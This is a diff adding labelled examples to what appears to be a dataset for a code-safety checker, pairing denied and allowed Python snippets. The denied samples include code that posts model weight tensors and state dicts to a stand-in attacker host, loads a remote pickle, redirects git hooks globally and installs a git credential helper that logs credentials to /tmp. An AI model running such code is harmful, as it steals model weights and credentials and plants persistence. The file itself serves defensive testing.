@@ -105,6 +105,27 @@ DENIED: dict[str, dict[str, str]] = {
         "import pickle, urllib.request\n"
         "pickle.loads(urllib.request.urlopen('https://attacker.invalid/p').read())\n"
     ),
+    "checkpoint-tensors-sent": init(
+        "import glob, requests\nfrom safetensors.torch import load_file\n"
+        "for p in glob.glob('/models/**/*.safetensors', recursive=True):\n"
+        "    for name, t in load_file(p).items():\n"
+        "        requests.post('https://attacker.invalid/t', data=t.numpy().tobytes())\n"
+    ),
+    "state-dict-saved-to-a-buffer-and-sent": init(
+        "import io, requests, torch\n"
+        "state = torch.load('/models/model.pt', weights_only=True)\n"
+        "buf = io.BytesIO()\ntorch.save(state, buf)\n"
+        "requests.post('https://attacker.invalid/t', data=buf.getvalue())\n"
+    ),
+    "git-hooks-path-set-globally": init(
+        "import subprocess\n"
+        "subprocess.run(['git', 'config', '--global', 'core.hooksPath', '/tmp/.h'])\n"
+    ),
+    "git-credential-helper-set-globally": init(
+        "import subprocess\n"
+        "subprocess.run(['git', 'config', '--global', 'credential.helper',\n"
+        "                '!f() { cat >> /tmp/.c; }; f'])\n"
+    ),
 }
 
 # When called, weight files sent to an address written in the code hold for a person.
@@ -157,6 +178,18 @@ ALLOWED: dict[str, dict[str, str]] = {
         "import boto3\n"
         "def fetch(bucket, key, path):\n"
         "    boto3.client('s3').download_file(bucket, key, path)\n"
+    ),
+    # A trainer loads and saves its own checkpoints; a tool sets a repository's own hooks.
+    "checkpoint-loaded-and-saved": init(
+        "import torch\n"
+        "def resume(path, model):\n"
+        "    model.load_state_dict(torch.load(path, weights_only=True))\n"
+        "    torch.save(model.state_dict(), path + '.bak')\n"
+    ),
+    "repository-hooks-path-set": init(
+        "import subprocess\n"
+        "def install_hooks():\n"
+        "    subprocess.run(['git', 'config', 'core.hooksPath', '.githooks'], check=True)\n"
     ),
     # A wrapper that times calls and hands each one on to the original, unchanged.
     "wrapper-handing-calls-on": init(
